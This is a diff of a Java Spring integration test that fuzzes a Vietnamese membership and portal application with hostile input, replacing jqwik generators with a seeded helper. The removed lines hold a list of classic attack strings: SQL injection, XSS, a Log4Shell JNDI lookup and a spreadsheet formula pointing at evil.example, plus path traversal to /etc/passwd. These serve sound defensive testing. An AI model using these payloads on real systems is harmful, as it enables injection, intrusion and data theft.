@@ -14,9 +14,6 @@ import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
 import java.util.Random;
-import net.jqwik.api.Arbitraries;
-import net.jqwik.api.Arbitrary;
-import net.jqwik.api.Combinators;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.springframework.beans.factory.annotation.Autowired;
@@ -32,70 +29,18 @@ import tools.jackson.databind.JsonNode;
 import tools.jackson.databind.json.JsonMapper;
 
 /**
- * Hostile input, generated with jqwik's arbitraries (random strings of every kind, the classic attack strings, huge and
+ * Hostile input, drawn by {@link Hostile} (random strings of every kind, the classic attack strings, huge and
  * empty values, odd numbers and dates, random bytes as files), fed to the member importer, the JSON API and the forms
  * of the running application: never a 500, a refusal names the field it is about with a message, and nothing is
  * half-written (a refused record adds no row; an all-or-nothing import adds all its rows or none).
  *
- * <p>The properties run as JUnit tests inside the shared Spring context (jqwik's own engine knows no Spring context),
- * drawing their samples from jqwik's sample streams; a failure names the input that caused it.
+ * <p>The properties run as JUnit tests inside the shared Spring context; a failure names the input that caused it and
+ * the seed that draws it again ({@code -Dchibo.test.seed}).
  */
 @ChiboIntegrationTest
 class HostileInputIntegrationTests {
 
     static final int TRIES = 40;
-
-    /** Strings an attacker or a careless paste sends: injections, formulas, controls, huge, odd Unicode. */
-    static final List<String> CLASSICS = List.of(
-            "",
-            " ",
-            "\u0000",
-            "'; DROP TABLE members.member; --",
-            "' OR '1'='1",
-            "<script>alert(1)</script>",
-            "\"><img src=x onerror=alert(1)>",
-            "=HYPERLINK(\"http://evil.example\",\"bấm\")",
-            "${jndi:ldap://evil.example/a}",
-            "%s%s%s%n",
-            "../../../../etc/passwd",
-            "\u202Egnp.exe",
-            "\uD800",
-            "Nguyễn\u0301 Thị\u0000Hương",
-            "🙂🙂🙂",
-            "NaN",
-            "-1",
-            "99999999999999999999999",
-            "31/02/2026",
-            "0000-00-00",
-            "2026-13-45",
-            "1e309",
-            "x".repeat(20_000),
-            "Đ".repeat(5_000),
-            "\r\n\r\n",
-            "{\"a\":",
-            "null");
-
-    static final Arbitrary<String> HOSTILE = Arbitraries.frequencyOf(
-            net.jqwik.api.Tuple.of(4, Arbitraries.of(CLASSICS)),
-            net.jqwik.api.Tuple.of(3, Arbitraries.strings().ofMaxLength(300)),
-            net.jqwik.api.Tuple.of(
-                    2, Arbitraries.strings().withCharRange('\u0000', '\u00ff').ofMaxLength(50)),
-            net.jqwik.api.Tuple.of(1, Arbitraries.strings().numeric().ofMaxLength(25)));
-
-    static final Arbitrary<byte[]> BYTES = Arbitraries.frequencyOf(
-            net.jqwik.api.Tuple.of(3, Arbitraries.bytes().array(byte[].class).ofMaxSize(4_000)),
-            net.jqwik.api.Tuple.of(
-                    1,
-                    Arbitraries.bytes()
-                            .array(byte[].class)
-                            .ofMaxSize(2_000)
-                            .map(tail -> concat(new byte[] {'P', 'K', 3, 4}, tail))),
-            net.jqwik.api.Tuple.of(
-                    1,
-                    Arbitraries.bytes()
-                            .array(byte[].class)
-                            .ofMaxSize(2_000)
-                            .map(tail -> concat(new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10}, tail))));
 
     @Autowired
     MockMvc mvc;
@@ -107,7 +52,7 @@ class HostileInputIntegrationTests {
     JsonMapper json;
 
     long branch;
-    long seed;
+    Hostile hostile;
     Random random;
     SecurityContext secretary;
     SecurityContext chief;
@@ -116,8 +61,8 @@ class HostileInputIntegrationTests {
     @BeforeEach
     void setUp() throws Exception {
         branch = DemoFixtures.organizationId(jdbc, DemoFixtures.BITHU_BRANCH);
-        seed = System.nanoTime();
-        random = new Random(seed);
+        hostile = Hostile.draw();
+        random = hostile.random();
         secretaryPages = login("bithu");
         secretary = (SecurityContext) secretaryPages.getAttribute("SPRING_SECURITY_CONTEXT");
         chief = (SecurityContext) login("tongbientap").getAttribute("SPRING_SECURITY_CONTEXT");
@@ -140,8 +85,7 @@ class HostileInputIntegrationTests {
                 "officialDate",
                 "theoryLevel",
                 "cardNumber");
-        for (Map<String, String> values :
-                samples(Arbitraries.maps(Arbitraries.of(fields), HOSTILE).ofMaxSize(fields.size()))) {
+        for (Map<String, String> values : hostile.samples(TRIES, () -> hostile.someOf(fields, hostile::string))) {
             Map<String, Object> body = new LinkedHashMap<>();
             body.put("organizationId", branch);
             body.put("fullName", "Phạm Thị Thử Nghiệm");
@@ -159,7 +103,7 @@ class HostileInputIntegrationTests {
                     .as("rows written for %s ", values)
                     .isEqualTo(answer.getStatus() == 201 ? 1 : 0);
         }
-        for (String raw : samples(HOSTILE)) {
+        for (String raw : hostile.samples(TRIES, hostile::string)) {
             MockHttpServletResponse answer = call(post("/api/v1/members")
                     .contentType(MediaType.APPLICATION_JSON)
                     .content(raw)
@@ -173,21 +117,9 @@ class HostileInputIntegrationTests {
     @Test
     void theImporterNeverFailsAndIsAllOrNothing() throws Exception {
         String header = "Họ và tên,Giới tính,Ngày sinh,Số CCCD,Dân tộc,Ngày vào Đảng\n";
-        Arbitrary<String> cell = HOSTILE.map(s -> s.length() > 2_000 ? s.substring(0, 2_000) : s);
-        Arbitrary<String> row = cell.list().ofSize(6).map(cells -> {
-            List<String> quoted = new ArrayList<>();
-            for (String c : cells) {
-                quoted.add('"' + c.replace("\"", "\"\"") + '"');
-            }
-            return String.join(",", quoted) + "\n";
-        });
-        Arbitrary<String> file = Combinators.combine(
-                        row.list().ofMinSize(1).ofMaxSize(6),
-                        Arbitraries.of(
-                                "Phan Văn Hợp Lệ,Nam,01/02/1981,,Kinh,03/02/2011\n",
-                                "Phan Thị Hợp Lệ,Nữ,05/06/1984,,Tày,07/08/2014\n"))
-                .as((rows, valid) -> header + valid + String.join("", rows));
-        for (String csv : samples(file)) {
+        List<String> valid = List.of(
+                "Phan Văn Hợp Lệ,Nam,01/02/1981,,Kinh,03/02/2011\n", "Phan Thị Hợp Lệ,Nữ,05/06/1984,,Tày,07/08/2014\n");
+        for (String csv : hostile.samples(TRIES, () -> header + hostile.oneOf(valid) + hostileRows())) {
             boolean validOnly = random.nextBoolean();
             boolean dryRun = random.nextInt(4) == 0;
             long before = members();
@@ -217,13 +149,13 @@ class HostileInputIntegrationTests {
                 assertThat(written).as("all or nothing, " + what).isZero();
             }
         }
-        for (byte[] bytes : samples(BYTES)) {
+        for (byte[] bytes : hostile.samples(TRIES, hostile::bytes)) {
             long before = members();
             MockHttpServletResponse answer = call(multipart("/api/v1/members/import")
                     .file(new MockMultipartFile("file", "rac.xlsx", "application/octet-stream", bytes))
                     .param("org", Long.toString(branch))
                     .with(securityContext(secretary)));
-            assertThat(answer.getStatus()).as("random file ").isIn(200, 400);
+            assertThat(answer.getStatus()).as("random file [%s]", hostile).isIn(200, 400);
             if (answer.getStatus() == 400) {
                 assertNamedField(answer, "random file");
             }
@@ -234,15 +166,14 @@ class HostileInputIntegrationTests {
     @Test
     void thePortalApiRefusesHostileArticlesByFieldAndWritesNothing() throws Exception {
         List<String> fields = List.of("title", "slug", "lead", "body", "byline", "coverAlt");
-        for (Map<String, String> values :
-                samples(Arbitraries.maps(Arbitraries.of(fields), HOSTILE).ofMaxSize(fields.size()))) {
+        for (Map<String, String> values : hostile.samples(TRIES, () -> hostile.someOf(fields, hostile::string))) {
             Map<String, Object> body = new LinkedHashMap<>();
             body.put("title", "Bài thử đầu vào");
             body.put("lead", "Sapo của bài thử đầu vào.");
             body.put("body", "<p>Nội dung</p>");
             body.putAll(values);
             if (random.nextBoolean()) {
-                body.put("tags", List.of(HOSTILE.sample(), HOSTILE.sample()));
+                body.put("tags", List.of(hostile.string(), hostile.string()));
             }
             long before = articles();
             MockHttpServletResponse answer = call(post("/api/v1/portal/editor/sites/so-gddt-binh-son/articles")
@@ -256,7 +187,7 @@ class HostileInputIntegrationTests {
 
     @Test
     void formsAndNumbersNeverMakeAServerError() throws Exception {
-        for (String value : samples(HOSTILE)) {
+        for (String value : hostile.samples(TRIES, hostile::string)) {
             String v = value.length() > 3_000 ? value.substring(0, 3_000) : value;
             check(post("/organizations/" + branch + "/edit")
                     .param("name", v)
@@ -290,7 +221,7 @@ class HostileInputIntegrationTests {
                     .param("to", v)
                     .session(secretaryPages));
         }
-        for (long number : samples(Arbitraries.longs())) {
+        for (long number : hostile.samples(TRIES, hostile::anyLong)) {
             check(get("/api/v1/members")
                     .param("page", Long.toString(number))
                     .param("size", Long.toString(number))
@@ -299,13 +230,13 @@ class HostileInputIntegrationTests {
             check(get("/api/v1/meetings/" + number).with(securityContext(secretary)));
             check(get("/cong/media/" + number + "/" + number));
         }
-        for (byte[] bytes : samples(BYTES)) {
+        for (byte[] bytes : hostile.samples(TRIES, hostile::bytes)) {
             long site = jdbc.sql("SELECT id FROM portal.site WHERE slug = 'so-gddt-binh-son'")
                     .query(Long.class)
                     .single();
             MockHttpServletResponse answer = call(multipart("/portal/sites/" + site + "/media")
-                    .file(new MockMultipartFile("file", HOSTILE.sample(), "image/png", bytes))
-                    .param("alt", HOSTILE.sample())
+                    .file(new MockMultipartFile("file", hostile.string(), "image/png", bytes))
+                    .param("alt", hostile.string())
                     .session(login("tongbientap"))
                     .with(csrf()));
             assertThat(answer.getStatus()).as("random media file ").isIn(302, 400);
@@ -314,7 +245,7 @@ class HostileInputIntegrationTests {
 
     private void check(RequestBuilder request) throws Exception {
         MockHttpServletResponse answer = call(request);
-        assertThat(answer.getStatus()).as("%s ", request).isLessThan(500);
+        assertThat(answer.getStatus()).as("%s [%s]", request, hostile).isLessThan(500);
     }
 
     private void assertRefusedByFieldOrDone(MockHttpServletResponse answer, Object input, int done) throws Exception {
@@ -345,12 +276,20 @@ class HostileInputIntegrationTests {
         }
     }
 
-    /**
-     * TRIES samples of the arbitrary, from jqwik's sample stream (usable outside jqwik's engine: its generators need
-     * its own threads). The failing input is named in the assertion's message.
-     */
-    private static <T> List<T> samples(Arbitrary<T> arbitrary) {
-        return arbitrary.sampleStream().limit(TRIES).toList();
+    /** One to six rows of six hostile cells, each quoted (a cell cut at 2,000 characters). */
+    private String hostileRows() {
+        StringBuilder rows = new StringBuilder();
+        int count = 1 + random.nextInt(6);
+        for (int r = 0; r < count; r++) {
+            List<String> quoted = new ArrayList<>();
+            for (int c = 0; c < 6; c++) {
+                String cell = hostile.string();
+                cell = cell.length() > 2_000 ? cell.substring(0, 2_000) : cell;
+                quoted.add('"' + cell.replace("\"", "\"\"") + '"');
+            }
+            rows.append(String.join(",", quoted)).append('\n');
+        }
+        return rows.toString();
     }
 
     private long members() {
@@ -361,15 +300,9 @@ class HostileInputIntegrationTests {
         return jdbc.sql("SELECT count(*) FROM portal.article").query(Long.class).single();
     }
 
-    private static String abbreviated(String text) {
-        return text.length() > 200 ? text.substring(0, 200) + "…" : text;
-    }
-
-    private static byte[] concat(byte[] head, byte[] tail) {
-        byte[] all = new byte[head.length + tail.length];
-        System.arraycopy(head, 0, all, 0, head.length);
-        System.arraycopy(tail, 0, all, head.length, tail.length);
-        return all;
+    /** The input, cut to 200 characters, and the seed that replays it. */
+    private String abbreviated(String text) {
+        return (text.length() > 200 ? text.substring(0, 200) + "…" : text) + " [" + hostile + "]";
     }
 
     MockHttpSession login(String username) throws Exception {
